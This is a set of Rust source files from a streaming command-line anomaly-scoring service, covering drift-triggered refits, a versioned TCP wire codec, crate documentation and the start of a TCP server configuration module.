impl LifecycleState {
    pub(crate) fn new(config: LifecycleConfig) -> Result<Self, ServeError> {
        let drift = DriftDetector::new(config.drift)?;
        Ok(LifecycleState {
            source: config.source,
            background: config.background,
            log: Mutex::new(Vec::new()),
            drift: Mutex::new(drift),
            pending: AtomicBool::new(false),
            consumed: AtomicUsize::new(0),
            refits: AtomicUsize::new(0),
            refit_lock: Mutex::new(()),
        })
    }

    pub(crate) fn background(&self) -> bool {
        self.background
    }

    /// Records an absorbed append batch and arms the append-count
    /// trigger when the since-refit total crosses the threshold.
    pub(crate) fn record_appends(&self, lines: &[String], labels: &[bool]) {
        let since = {
            let mut log = self.log.lock().unwrap();
            log.extend(lines.iter().cloned().zip(labels.iter().copied()));
            log.len() - self.consumed.load(Ordering::Acquire)
        };
        let threshold = {
            let drift = self.drift.lock().unwrap();
            drift.config().append_threshold
        };
        if threshold > 0 && since >= threshold {
            self.pending.store(true, Ordering::Release);
        }
    }

    /// Feeds per-line verdict scores to the drift tracker and arms the
    /// drift trigger when the statistic crosses the threshold.
    pub(crate) fn observe_scores(&self, per_line: impl Iterator<Item = f32>) {
        let mut drift = self.drift.lock().unwrap();
        for s in per_line {
            drift.observe(s);
        }
        if drift.fired() {
            self.pending.store(true, Ordering::Release);
        }
    }

    /// Whether a trigger has fired since the last refit.
    pub(crate) fn refit_pending(&self) -> bool {
        self.pending.load(Ordering::Acquire)
    }

    /// The training set for the next refit: baseline ∪ the append-log
    /// prefix as of now, plus the prefix length (handed back to
    /// [`LifecycleState::finish_refit`] once the swap lands).
    pub(crate) fn take_training(&self) -> (Vec<String>, Vec<bool>, usize) {
        let log = self.log.lock().unwrap();
        let prefix = log.len();
        let mut lines = self.source.lines.clone();
        let mut labels = self.source.labels.clone();
        lines.extend(log.iter().map(|(l, _)| l.clone()));
        labels.extend(log.iter().map(|(_, b)| *b));
        (lines, labels, prefix)
    }

    /// Aborts a failed refit: the trigger is disarmed and the drift
    /// tracker restarts (so a broken fit cannot hot-loop a background
    /// worker), but the append log stays unconsumed for the next
    /// attempt.
    pub(crate) fn fail_refit(&self) {
        self.drift.lock().unwrap().reset();
        self.pending.store(false, Ordering::Release);
    }

    /// Completes a refit: the log prefix is consumed, the trigger is
    /// disarmed, and the drift tracker restarts against the post-swap
    /// verdict distribution.
    pub(crate) fn finish_refit(&self, consumed_prefix: usize) {
        self.consumed.store(consumed_prefix, Ordering::Release);
        self.drift.lock().unwrap().reset();
        self.pending.store(false, Ordering::Release);
        self.refits.fetch_add(1, Ordering::AcqRel);
    }

    pub(crate) fn stats(&self) -> LifecycleStats {
        let (appends_logged, appends_since_refit) = {
            let log = self.log.lock().unwrap();
            let consumed = self.consumed.load(Ordering::Acquire);
            (log.len(), log.len() - consumed)
        };
        LifecycleStats {
            refits: self.refits.load(Ordering::Acquire),
            appends_logged,
            appends_since_refit,
            drift_statistic: self.drift.lock().unwrap().statistic(),
            refit_pending: self.refit_pending(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn config(window: usize, bins: usize, threshold: f32) -> DriftConfig {
        DriftConfig {
            window,
            bins,
            threshold,
            append_threshold: 0,
        }
    }

    #[test]
    fn statistic_is_none_until_both_windows_fill() {
        let mut d = DriftDetector::new(config(8, 4, 0.25)).unwrap();
        for i in 0..15 {
            assert_eq!(d.statistic(), None, "after {i} observations");
            d.observe(i as f32 * 0.1);
        }
        d.observe(1.5);
        assert!(d.statistic().is_some());
    }

    #[test]
    fn identical_window_scores_exactly_zero() {
        let mut d = DriftDetector::new(config(8, 4, 0.25)).unwrap();
        let scores: Vec<f32> = (0..8).map(|i| (i as f32).sin()).collect();
        d.observe_batch(&scores);
        d.observe_batch(&scores);
        assert_eq!(d.statistic(), Some(0.0));
        assert!(!d.fired());
    }

    #[test]
    fn complete_separation_fires() {
        let mut d = DriftDetector::new(config(8, 4, 3.0)).unwrap();
        d.observe_batch(&[0.0, 0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7]);
        d.observe_batch(&[10.0; 8]);
        assert!(d.statistic().unwrap() > 3.0, "{:?}", d.statistic());
        assert!(d.fired());
    }

    #[test]
    fn reset_restarts_the_reference() {
        let mut d = DriftDetector::new(config(4, 2, 0.25)).unwrap();
        d.observe_batch(&[0.0, 0.1, 0.2, 0.3]);
        d.observe_batch(&[5.0, 5.0, 5.0, 5.0]);
        assert!(d.fired());
        d.reset();
        assert_eq!(d.statistic(), None);
        assert_eq!(d.observations(), 0);
    }

    #[test]
    fn invalid_configs_are_typed_errors() {
        assert!(DriftDetector::new(config(8, 1, 0.25)).is_err());
        assert!(DriftDetector::new(config(2, 4, 0.25)).is_err());
        assert!(DriftDetector::new(config(8, 4, 0.0)).is_err());
        assert!(RefitSource::new(vec!["a".into()], vec![]).is_err());
        assert!(RefitSource::new(vec![], vec![]).is_err());
    }
}
