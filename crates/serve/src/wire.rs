//! The length-prefixed wire codec for the TCP front-end.
//!
//! Frames the existing score/append/snapshot/stats protocol for a
//! socket, in the [`index::persist`] hand-rolled style (the vendored
//! serde is marker-only):
//!
//! ```text
//! frame   := len:u32 LE | payload                           (len = payload bytes)
//! payload := magic:u8 | ver:u8 | id:u64 LE | tag:u8 | body  (request and response)
//! ```
//!
//! `magic`/`ver` ([`WIRE_MAGIC`], [`WIRE_VERSION`]) were introduced
//! when the tenant-tagged requests landed: version 1 payloads started
//! directly at `id` and carried no tenant axis, so a v1 peer must get
//! a typed error — [`PersistError::BadMagic`] (the first byte of a v1
//! id is overwhelmingly not the magic) or
//! [`PersistError::UnsupportedVersion`] — never a panic and never a
//! silently mis-parsed request (`tests/wire_codec.rs` pins both).
//!
//! `id` is a per-connection correlation id chosen by the client:
//! responses may come back out of submission order (pipelining — many
//! in-flight requests share one socket; micro-batches complete when
//! the workers finish them), and the id is what lets the client demux
//! them. Decoding is total: any truncation, byte flip, or oversized
//! length prefix returns a typed error and never panics
//! (`tests/wire_codec.rs`, in the `persist_codec.rs` style), because a
//! listening socket hands this parser attacker-controlled bytes.

use crate::service::ServiceStats;
use index::persist::{ByteReader, ByteWriter, PersistError};
use std::io::{ErrorKind, Read, Write};

/// First byte of every versioned payload. Chosen to be outside ASCII
/// so a stray text protocol poking the port errors immediately.
pub const WIRE_MAGIC: u8 = 0xC5;

/// Current payload layout version. Version 1 is the headerless
/// pre-tenant layout (`id | tag | body`); version 2 added the
/// `magic | ver` prefix and the tenant-tagged request variants.
pub const WIRE_VERSION: u8 = 2;

/// A client → server message. `id` travels beside it in the payload.
#[derive(Debug, Clone, PartialEq)]
pub enum WireRequest {
    /// Handshake: asks for the method names verdict vectors follow.
    Hello,
    /// Score a batch of lines (one verdict vector per line, in order).
    Score { lines: Vec<String> },
    /// Absorb freshly-labeled supervision (one label per line).
    Append {
        lines: Vec<String>,
        labels: Vec<bool>,
    },
    /// Capture the persistable detector state as a snapshot frame.
    Snapshot,
    /// Read the monotonic service counters.
    Stats,
    /// Ask the server process to shut down cleanly.
    Shutdown,
    /// Score a batch of lines against one tenant's partition
    /// (`serve::tenants`); verdicts follow the tenant's own detector
    /// set, in input order.
    ScoreTenant { tenant: u64, lines: Vec<String> },
    /// Absorb freshly-labeled supervision into one tenant's partition
    /// (one label per line). Promotes a cold tenant first.
    AppendTenant {
        tenant: u64,
        lines: Vec<String>,
        labels: Vec<bool>,
    },
}

/// A server → client message answering the request with the same id.
#[derive(Debug, Clone, PartialEq)]
pub enum WireResponse {
    /// Handshake answer: method names in registration order.
    Hello { methods: Vec<String> },
    /// Per-line verdicts for a `Score` request, in input order.
    Scores(Vec<Vec<f32>>),
    /// How many detectors absorbed an `Append` batch.
    Appended(usize),
    /// The encoded [`crate::ServiceSnapshot`] frame, plus the names of
    /// detectors that were not capturable.
    Snapshot {
        frame: Vec<u8>,
        skipped: Vec<String>,
    },
    /// The monotonic service counters (verdict-cache overlay included).
    Stats(ServiceStats),
    /// The server acknowledged `Shutdown` and is closing connections.
    ShuttingDown,
    /// The request failed; `kind` is machine-readable, `message` is
    /// for humans.
    Error {
        kind: WireErrorKind,
        message: String,
    },
}

/// Machine-readable failure kinds a server can answer with. A subset
/// maps 1:1 onto [`crate::ServeError`]; the rest are wire-level.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum WireErrorKind {
    /// The scoring front-end has shut down.
    Closed,
    /// A detector cannot serve per-line verdicts.
    StreamStructured,
    /// Absorbing supervision failed.
    Engine,
    /// A configuration was rejected.
    InvalidConfig,
    /// The server is at its connection limit.
    Busy,
    /// The request frame decoded but was semantically invalid
    /// (e.g. label/line count mismatch).
    BadRequest,
    /// The request frame exceeded the server's `max_frame`.
    TooLarge,
}

impl WireErrorKind {
    fn to_u8(self) -> u8 {
        match self {
            WireErrorKind::Closed => 0,
            WireErrorKind::StreamStructured => 1,
            WireErrorKind::Engine => 2,
            WireErrorKind::InvalidConfig => 3,
            WireErrorKind::Busy => 4,
            WireErrorKind::BadRequest => 5,
            WireErrorKind::TooLarge => 6,
        }
    }

    fn from_u8(v: u8) -> Result<Self, PersistError> {
        Ok(match v {
            0 => WireErrorKind::Closed,
            1 => WireErrorKind::StreamStructured,
            2 => WireErrorKind::Engine,
            3 => WireErrorKind::InvalidConfig,
            4 => WireErrorKind::Busy,
            5 => WireErrorKind::BadRequest,
            6 => WireErrorKind::TooLarge,
            t => return Err(PersistError::BadTag(t)),
        })
    }
}

impl From<&crate::ServeError> for WireErrorKind {
    fn from(e: &crate::ServeError) -> Self {
        match e {
            crate::ServeError::StreamStructured(_) => WireErrorKind::StreamStructured,
            crate::ServeError::Closed => WireErrorKind::Closed,
            crate::ServeError::Engine(_) => WireErrorKind::Engine,
            crate::ServeError::InvalidConfig(_) => WireErrorKind::InvalidConfig,
            // A snapshot that raced an append or refit swap is
            // transient: the client retries, same as a full queue.
            crate::ServeError::SnapshotRace { .. } => WireErrorKind::Busy,
        }
    }
}

/// Why a wire operation failed, on either end of the socket.
#[derive(Debug)]
pub enum NetError {
    /// The socket failed (connect, read, write).
    Io(std::io::Error),
    /// A frame payload did not decode (truncation, byte flip, unknown
    /// tag) — typed, never a panic.
    Frame(PersistError),
    /// A length prefix exceeded the configured `max_frame`; rejected
    /// before allocating.
    FrameTooLarge { len: usize, max: usize },
    /// The connection (or the service behind it) is closed.
    Closed,
    /// A local serving-stack failure (invalid [`crate::NetConfig`],
    /// cache attachment) surfaced through the net layer.
    Serve(crate::ServeError),
    /// The server answered with a typed error.
    Remote {
        kind: WireErrorKind,
        message: String,
    },
    /// The peer violated the protocol (e.g. a response kind that does
    /// not answer the request that was sent).
    Protocol(&'static str),
}

impl std::fmt::Display for NetError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            NetError::Io(e) => write!(f, "socket error: {e}"),
            NetError::Frame(e) => write!(f, "bad frame: {e}"),
            NetError::FrameTooLarge { len, max } => {
                write!(f, "frame of {len} bytes exceeds max_frame {max}")
            }
            NetError::Closed => write!(f, "connection closed"),
            NetError::Serve(e) => write!(f, "{e}"),
            NetError::Remote { kind, message } => write!(f, "server error ({kind:?}): {message}"),
            NetError::Protocol(what) => write!(f, "protocol violation: {what}"),
        }
    }
}

impl std::error::Error for NetError {}

impl From<std::io::Error> for NetError {
    fn from(e: std::io::Error) -> Self {
        NetError::Io(e)
    }
}

impl From<PersistError> for NetError {
    fn from(e: PersistError) -> Self {
        NetError::Frame(e)
    }
}

// --- payload codec -------------------------------------------------

fn put_lines(w: &mut ByteWriter, lines: &[String]) {
    w.put_usize(lines.len());
    for line in lines {
        w.put_str(line);
    }
}

/// Reads a string collection with the count guarded against the bytes
/// actually present (each string costs at least its 8-byte length
/// prefix), so a flipped count byte is `Truncated`, not a huge
/// allocation.
fn get_lines(r: &mut ByteReader) -> Result<Vec<String>, PersistError> {
    let n = r.get_usize()?;
    if n.saturating_mul(8) > r.remaining() {
        return Err(PersistError::Truncated);
    }
    (0..n).map(|_| r.get_str()).collect()
}

fn put_scores(w: &mut ByteWriter, scores: &[Vec<f32>]) {
    w.put_usize(scores.len());
    for row in scores {
        w.put_f32s(row);
    }
}

fn get_scores(r: &mut ByteReader) -> Result<Vec<Vec<f32>>, PersistError> {
    let n = r.get_usize()?;
    if n.saturating_mul(8) > r.remaining() {
        return Err(PersistError::Truncated);
    }
    (0..n).map(|_| r.get_f32s()).collect()
}

/// Writes the `magic | ver` payload header.
fn put_header(w: &mut ByteWriter) {
    w.put_u8(WIRE_MAGIC);
    w.put_u8(WIRE_VERSION);
}

/// Validates the `magic | ver` payload header. A headerless v1
/// payload starts with its id's low byte, so it lands on
/// [`PersistError::BadMagic`] (or, for the rare id whose low byte is
/// the magic, [`PersistError::UnsupportedVersion`] / a downstream
/// typed decode error — never a panic).
fn check_header(r: &mut ByteReader) -> Result<(), PersistError> {
    if r.get_u8()? != WIRE_MAGIC {
        return Err(PersistError::BadMagic);
    }
    let ver = r.get_u8()?;
    if ver != WIRE_VERSION {
        return Err(PersistError::UnsupportedVersion(ver as u32));
    }
    Ok(())
}

/// Encodes a request payload (`magic | ver | id | tag | body`, no
/// length prefix — [`write_frame`] adds that).
pub fn encode_request(id: u64, req: &WireRequest) -> Vec<u8> {
    let mut w = ByteWriter::new();
    put_header(&mut w);
    w.put_u64(id);
    match req {
        WireRequest::Hello => w.put_u8(0),
        WireRequest::Score { lines } => {
            w.put_u8(1);
            put_lines(&mut w, lines);
        }
        WireRequest::Append { lines, labels } => {
            w.put_u8(2);
            put_lines(&mut w, lines);
            w.put_bools(labels);
        }
        WireRequest::Snapshot => w.put_u8(3),
        WireRequest::Stats => w.put_u8(4),
        WireRequest::Shutdown => w.put_u8(5),
        WireRequest::ScoreTenant { tenant, lines } => {
            w.put_u8(6);
            w.put_u64(*tenant);
            put_lines(&mut w, lines);
        }
        WireRequest::AppendTenant {
            tenant,
            lines,
            labels,
        } => {
            w.put_u8(7);
            w.put_u64(*tenant);
            put_lines(&mut w, lines);
            w.put_bools(labels);
        }
    }
    w.into_bytes()
}

/// Decodes a request payload. Total: every malformed input is a typed
/// [`PersistError`].
pub fn decode_request(payload: &[u8]) -> Result<(u64, WireRequest), PersistError> {
    let mut r = ByteReader::new(payload);
    check_header(&mut r)?;
    let id = r.get_u64()?;
    let req = match r.get_u8()? {
        0 => WireRequest::Hello,
        1 => WireRequest::Score {
            lines: get_lines(&mut r)?,
        },
        2 => WireRequest::Append {
            lines: get_lines(&mut r)?,
            labels: r.get_bools()?,
        },
        3 => WireRequest::Snapshot,
        4 => WireRequest::Stats,
        5 => WireRequest::Shutdown,
        6 => WireRequest::ScoreTenant {
            tenant: r.get_u64()?,
            lines: get_lines(&mut r)?,
        },
        7 => WireRequest::AppendTenant {
            tenant: r.get_u64()?,
            lines: get_lines(&mut r)?,
            labels: r.get_bools()?,
        },
        t => return Err(PersistError::BadTag(t)),
    };
    if r.remaining() != 0 {
        return Err(PersistError::Corrupt("trailing bytes after request"));
    }
    Ok((id, req))
}

/// Encodes a response payload (`magic | ver | id | tag | body`).
pub fn encode_response(id: u64, resp: &WireResponse) -> Vec<u8> {
    let mut w = ByteWriter::new();
    put_header(&mut w);
    w.put_u64(id);
    match resp {
        WireResponse::Hello { methods } => {
            w.put_u8(0);
            put_lines(&mut w, methods);
        }
        WireResponse::Scores(scores) => {
            w.put_u8(1);
            put_scores(&mut w, scores);
        }
        WireResponse::Appended(n) => {
            w.put_u8(2);
            w.put_usize(*n);
        }
        WireResponse::Snapshot { frame, skipped } => {
            w.put_u8(3);
            w.put_bytes(frame);
            put_lines(&mut w, skipped);
        }
        WireResponse::Stats(stats) => {
            w.put_u8(4);
            w.put_usize(stats.batches);
            w.put_usize(stats.lines);
            w.put_usize(stats.cache_hits);
            w.put_usize(stats.cache_misses);
            w.put_u64(stats.epoch);
        }
        WireResponse::ShuttingDown => w.put_u8(5),
        WireResponse::Error { kind, message } => {
            w.put_u8(6);
            w.put_u8(kind.to_u8());
            w.put_str(message);
        }
    }
    w.into_bytes()
}

/// Decodes a response payload. Total, like [`decode_request`].
pub fn decode_response(payload: &[u8]) -> Result<(u64, WireResponse), PersistError> {
    let mut r = ByteReader::new(payload);
    check_header(&mut r)?;
    let id = r.get_u64()?;
    let resp = match r.get_u8()? {
        0 => WireResponse::Hello {
            methods: get_lines(&mut r)?,
        },
        1 => WireResponse::Scores(get_scores(&mut r)?),
        2 => WireResponse::Appended(r.get_usize()?),
        3 => WireResponse::Snapshot {
            frame: r.get_bytes()?,
            skipped: get_lines(&mut r)?,
        },
        4 => WireResponse::Stats(ServiceStats {
            batches: r.get_usize()?,
            lines: r.get_usize()?,
            cache_hits: r.get_usize()?,
            cache_misses: r.get_usize()?,
            epoch: r.get_u64()?,
        }),
        5 => WireResponse::ShuttingDown,
        6 => WireResponse::Error {
            kind: WireErrorKind::from_u8(r.get_u8()?)?,
            message: r.get_str()?,
        },
        t => return Err(PersistError::BadTag(t)),
    };
    if r.remaining() != 0 {
        return Err(PersistError::Corrupt("trailing bytes after response"));
    }
    Ok((id, resp))
}

// --- frame I/O -----------------------------------------------------

/// Writes one `len | payload` frame. Refuses payloads over
/// `max_frame` *before* touching the socket, so an oversized reply
/// never desyncs the stream.
pub fn write_frame(
    sock: &mut impl Write,
    payload: &[u8],
    max_frame: usize,
) -> Result<(), NetError> {
    if payload.len() > max_frame {
        return Err(NetError::FrameTooLarge {
            len: payload.len(),
            max: max_frame,
        });
    }
    sock.write_all(&(payload.len() as u32).to_le_bytes())?;
    sock.write_all(payload)?;
    sock.flush()?;
    Ok(())
}

/// What one [`FrameReader::read_frame`] call observed.
#[derive(Debug)]
pub enum FrameEvent {
    /// A complete frame payload.
    Frame(Vec<u8>),
    /// The read timed out (or would block) before a frame completed;
    /// partial bytes are retained — call again. This is how a server
    /// reader polls its shutdown flag without losing sync.
    Idle,
    /// The peer closed cleanly at a frame boundary.
    Eof,
}

/// Incremental frame reassembly over a raw socket. Retains partial
/// bytes across timeouts, so a frame split across reads (or a read
/// timeout firing mid-frame) never desyncs the stream — the failure
/// mode a bare `read_exact`-with-timeout loop has.
#[derive(Debug, Default)]
pub struct FrameReader {
    pending: Vec<u8>,
}

impl FrameReader {
    pub fn new() -> Self {
        FrameReader::default()
    }

    /// Pops a complete frame out of the pending buffer, if present.
    /// Oversized length prefixes are rejected before allocating.
    fn take_frame(&mut self, max_frame: usize) -> Result<Option<Vec<u8>>, NetError> {
        if self.pending.len() < 4 {
            return Ok(None);
        }
        let len = u32::from_le_bytes(self.pending[..4].try_into().expect("4 bytes")) as usize;
        if len > max_frame {
            return Err(NetError::FrameTooLarge {
                len,
                max: max_frame,
            });
        }
        if self.pending.len() < 4 + len {
            return Ok(None);
        }
        let payload = self.pending[4..4 + len].to_vec();
        self.pending.drain(..4 + len);
        Ok(Some(payload))
    }

    /// Reads until a complete frame, a timeout, or EOF. EOF with
    /// partial bytes pending is a truncated frame
    /// ([`NetError::Frame`]), not a clean close.
    pub fn read_frame(
        &mut self,
        sock: &mut impl Read,
        max_frame: usize,
    ) -> Result<FrameEvent, NetError> {
        let mut buf = [0u8; 16 * 1024];
        loop {
            if let Some(payload) = self.take_frame(max_frame)? {
                return Ok(FrameEvent::Frame(payload));
            }
            match sock.read(&mut buf) {
                Ok(0) => {
                    return if self.pending.is_empty() {
                        Ok(FrameEvent::Eof)
                    } else {
                        Err(NetError::Frame(PersistError::Truncated))
                    };
                }
                Ok(n) => self.pending.extend_from_slice(&buf[..n]),
                Err(e) => match e.kind() {
                    ErrorKind::Interrupted => {}
                    ErrorKind::WouldBlock | ErrorKind::TimedOut => return Ok(FrameEvent::Idle),
                    _ => return Err(NetError::Io(e)),
                },
            }
        }
    }
}
