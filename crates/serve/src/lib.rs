//! The streaming scoring service: the online counterpart of the batch
//! [`ScoringEngine`](cmdline_ids::engine::ScoringEngine) protocol.
//!
//! The paper's evaluation is offline — fit on a labeled training
//! split, score a de-duplicated test split once. Production
//! supervision does not arrive that way: command lines stream in
//! continuously and each wants a verdict *now*, from a detector set
//! that is already fitted and whose exemplar indexes are already
//! built. This crate keeps that state resident and adds the three
//! things the offline path never needed:
//!
//! * **Micro-batched line scoring** ([`ScoringService`]) — requests
//!   enter a bounded channel; scoring workers coalesce arrivals within
//!   a configurable window so the encoder's batched forward and the
//!   index's batched queries stay hot even when every caller submits
//!   one line. On the exact backend, streamed scores are
//!   **bit-identical** to the one-shot batch run
//!   (`tests/online_offline_parity.rs`) because the batched forward is
//!   bit-identical per line regardless of batch composition.
//! * **Live supervision absorption** ([`ScoringService::append`]) —
//!   freshly-labeled exemplars insert into the resident neighbour
//!   indexes through the incremental HNSW insert path instead of
//!   forcing a rebuild.
//! * **Cold-start persistence** ([`ServiceSnapshot`]) — the fitted
//!   neighbour detectors (params + built graphs + candidate norms)
//!   serialize to a binary frame; a restarting service adopts the
//!   saved graphs without re-running the O(n·ef_construction)
//!   construction pass (asserted against
//!   [`index::construction_passes`]).
//! * **Shard-aware serving** ([`ShardRouter`]) — when the neighbour
//!   detectors are fitted over a sharded index
//!   (`IndexConfig::with_shards(n)`), the router splits them into N
//!   per-shard worker pools behind the same [`ServiceClient`]
//!   protocol: each micro-batch is embedded once, scattered to every
//!   shard, and the per-shard top-k candidates are merged back under
//!   the exact scan's total order — bit-identical to the unsharded
//!   service on exact shards (`tests/shard_router_parity.rs`), with
//!   `append` write-locking only the owning shard and snapshots framed
//!   as a manifest + N shard frames.
//! * **Zipf-aware verdict caching** ([`Frontend`], [`VerdictCache`]) —
//!   real log traffic is Zipf-heavy: a small hot head of *identical*
//!   command lines dominates arrivals. An exact-match bounded-LRU
//!   cache in front of the scoring path answers the hot head without
//!   tokenize+embed+scan; an epoch counter bumped on every absorbed
//!   `append` invalidates the whole cache in O(1), and hits are
//!   bit-identical to the uncached path (`tests/verdict_cache.rs`).
//! * **A real network front-end** ([`NetServer`], [`NetClient`]) — a
//!   length-prefixed TCP framing of the same protocol
//!   (`serve::wire`, hand-rolled in the `index::persist` codec
//!   style), with thread-per-connection readers feeding the existing
//!   micro-batching workers and connection-level pipelining so many
//!   in-flight requests share one socket. Loopback throughput and the
//!   cache win are measured by `benches/net_throughput.rs`.

//! * **Online detector lifecycle** ([`LifecycleConfig`], epoch-swapped
//!   refit) — the paper's unsupervised detectors assume periodically
//!   re-fitted baselines. A lifecycle-enabled service logs every
//!   absorbed append, watches the served score distribution with a
//!   deterministic PSI tracker ([`DriftDetector`]), and — on a drift
//!   or append-count trigger — re-fits fresh seeded templates of the
//!   refittable detectors off baseline ∪ append-log, swapping the new
//!   epoch in under one brief write lock while in-flight micro-batches
//!   finish on the old one. Refit-under-load is bit-identical to a
//!   stop-the-world refit on exact backends (`tests/lifecycle.rs`,
//!   `benches/lifecycle.rs`), and the same state-epoch counter that
//!   invalidates the verdict cache on appends is bumped on every swap.
//!   The sharded tier rides along: [`ShardRouter::reshard`] splits the
//!   live shard set without stopping the router.
//! * **Multi-tenant serving under a memory envelope**
//!   ([`TenantService`]) — per-tenant exemplar partitions routed to
//!   lock groups by the seeded content-stable shard hash, with tiered
//!   hot/cold storage: hot tenants keep fitted HNSW graphs resident,
//!   cold tenants are demoted to compact graph-dropped frames
//!   (deterministically rebuilt on first touch — bit-identical by the
//!   pinned seeded-construction property) and LRU-evicted against a
//!   configurable byte budget. The wire protocol carries tenant-tagged
//!   requests under a versioned frame header, and the verdict cache
//!   keys tenant entries separately with per-tenant epochs, so two
//!   tenants submitting identical lines can never cross-serve
//!   (`tests/tenants.rs`, `benches/tenant_scale.rs`).

mod cache;
mod front;
mod lifecycle;
mod net;
mod router;
mod service;
mod snapshot;
mod tenants;
pub mod wire;

pub use cache::{CacheStats, VerdictCache};
pub use front::Frontend;
pub use lifecycle::{DriftConfig, DriftDetector, LifecycleConfig, LifecycleStats, RefitSource};
pub use net::{NetClient, NetConfig, NetServer, DEFAULT_MAX_FRAME};
pub use router::{RouterConfig, ShardRouter};
pub use service::{ScoringService, ServeConfig, ServeError, ServiceClient, ServiceStats};
pub use snapshot::{ServiceSnapshot, SnapshotError};
pub use tenants::{
    TenantConfig, TenantError, TenantId, TenantMapSnapshot, TenantService, TenantStats,
};
pub use wire::NetError;
