//! The TCP front-end: the wire protocol served over real sockets.
//!
//! Everything upstream of this module is in-process; this is where the
//! serving stack meets the network. The shape is deliberately small —
//! no async runtime, just the vendored channel primitives and std
//! sockets:
//!
//! * **Accept loop** ([`NetServer`]) — one thread polls a nonblocking
//!   listener, enforces `max_connections` (over-limit connections get
//!   a typed `Busy` error frame, not a silent hang), and reaps
//!   finished connection threads.
//! * **Thread-per-connection, pipelined** — each connection gets a
//!   reader and a writer thread. The reader decodes frames and routes
//!   `Score` requests straight into the existing micro-batching
//!   workers via the shared [`ServiceClient`] protocol, tagging each
//!   with its wire id; the writer delivers completions as they land.
//!   Responses may return out of submission order — that is the
//!   point: many in-flight requests share one socket, so a client
//!   keeps the micro-batching window full without opening a
//!   connection per request. `NetConfig::backlog` bounds the
//!   in-flight depth per connection (back-pressure, not memory).
//! * **Verdict cache on the wire path** — the reader consults the
//!   [`Frontend`]'s cache before submitting: an all-hit request is
//!   answered without ever touching the scoring queue, and partial
//!   hits submit only the misses (the writer reassembles and inserts
//!   fresh verdicts on completion). The wire path and the in-process
//!   path share one cache discipline, so verdicts stay bit-identical.
//!
//! Control-plane requests (`Hello`/`Append`/`Snapshot`/`Stats`/
//! `Shutdown`) run synchronously on the reader thread — they are rare
//! and ordering them with respect to the same connection's scores is
//! the useful semantics (an `Append` answered means subsequent scores
//! on that connection see the new state and a bumped cache epoch).

use crate::front::{Frontend, Submission};
use crate::service::{ConnReply, NetReply, Reply, ServeError, ServiceStats, IDLE_POLL};
use crate::wire::{
    decode_request, decode_response, encode_request, encode_response, write_frame, FrameEvent,
    FrameReader, NetError, WireErrorKind, WireRequest, WireResponse,
};
use std::collections::HashMap;
use std::net::{IpAddr, Ipv4Addr, Shutdown, SocketAddr, TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{mpsc, Arc, Condvar, Mutex};
use std::thread::JoinHandle;
use std::time::Duration;

/// Knobs for a [`NetServer`].
#[derive(Debug, Clone, Copy)]
pub struct NetConfig {
    /// Address to bind.
    pub host: IpAddr,
    /// Port to bind. Must be nonzero — a server on an ephemeral port
    /// is unreachable by configuration; tests that want one bind the
    /// listener themselves and use [`NetServer::spawn_on`].
    pub port: u16,
    /// Maximum in-flight pipelined requests per connection: a reader
    /// that gets this far ahead of its writer blocks (back-pressure)
    /// instead of buffering unbounded completions.
    pub backlog: usize,
    /// Largest accepted frame payload in bytes; oversized length
    /// prefixes are rejected before allocating.
    pub max_frame: usize,
    /// Maximum simultaneous connections; excess connections are
    /// answered with a typed `Busy` error frame and closed.
    pub max_connections: usize,
    /// Verdict-cache capacity in lines; `None` disables the cache
    /// (every request reaches the scoring workers — the baseline the
    /// `net_throughput` bench measures against).
    pub cache: Option<usize>,
}

impl Default for NetConfig {
    fn default() -> Self {
        NetConfig {
            host: IpAddr::V4(Ipv4Addr::LOCALHOST),
            port: 7177,
            backlog: 64,
            max_frame: DEFAULT_MAX_FRAME,
            max_connections: 64,
            cache: Some(4096),
        }
    }
}

/// Default largest frame payload (8 MiB).
pub const DEFAULT_MAX_FRAME: usize = 8 << 20;

/// Smallest usable `max_frame`: every control-plane response must fit.
const MIN_MAX_FRAME: usize = 1024;
/// Largest accepted `max_frame` (1 GiB) — beyond this a length prefix
/// is a typo or an attack, not a workload.
const MAX_MAX_FRAME: usize = 1 << 30;
/// Largest accepted per-connection pipelining depth.
const MAX_BACKLOG: usize = 1 << 20;
/// Largest accepted connection limit.
const MAX_CONNECTIONS: usize = 1 << 16;
/// Largest accepted verdict-cache capacity (entries).
const MAX_CACHE: usize = 1 << 24;

impl NetConfig {
    /// Rejects shapes that cannot serve, with a typed
    /// [`ServeError::InvalidConfig`] naming the offending knob —
    /// matching [`crate::ServeConfig::validate`]; the accept loop
    /// never silently clamps.
    pub fn validate(&self) -> Result<(), ServeError> {
        if self.port == 0 {
            return Err(ServeError::InvalidConfig(
                "port must be nonzero (an ephemeral port is unreachable by configuration; \
                 bind a listener yourself and use NetServer::spawn_on)"
                    .into(),
            ));
        }
        self.validate_limits()
    }

    /// The address-independent half of [`Self::validate`] — what
    /// [`NetServer::spawn_on`] checks, since there the caller's
    /// listener already fixes the address.
    pub(crate) fn validate_limits(&self) -> Result<(), ServeError> {
        if self.backlog == 0 {
            return Err(ServeError::InvalidConfig(
                "backlog must be >= 1 (no request could ever be in flight)".into(),
            ));
        }
        if self.backlog > MAX_BACKLOG {
            return Err(ServeError::InvalidConfig(format!(
                "backlog {} is absurd (max {MAX_BACKLOG})",
                self.backlog
            )));
        }
        if self.max_frame < MIN_MAX_FRAME {
            return Err(ServeError::InvalidConfig(format!(
                "max_frame {} is below the {MIN_MAX_FRAME}-byte floor control responses need",
                self.max_frame
            )));
        }
        if self.max_frame > MAX_MAX_FRAME {
            return Err(ServeError::InvalidConfig(format!(
                "max_frame {} is absurd (max {MAX_MAX_FRAME})",
                self.max_frame
            )));
        }
        if self.max_connections == 0 {
            return Err(ServeError::InvalidConfig(
                "max_connections must be >= 1 (the server could never accept)".into(),
            ));
        }
        if self.max_connections > MAX_CONNECTIONS {
            return Err(ServeError::InvalidConfig(format!(
                "max_connections {} is absurd (max {MAX_CONNECTIONS})",
                self.max_connections
            )));
        }
        match self.cache {
            Some(0) => {
                return Err(ServeError::InvalidConfig(
                    "cache capacity must be >= 1 when enabled (use None to disable)".into(),
                ))
            }
            Some(n) if n > MAX_CACHE => {
                return Err(ServeError::InvalidConfig(format!(
                    "cache capacity {n} is absurd (max {MAX_CACHE})"
                )))
            }
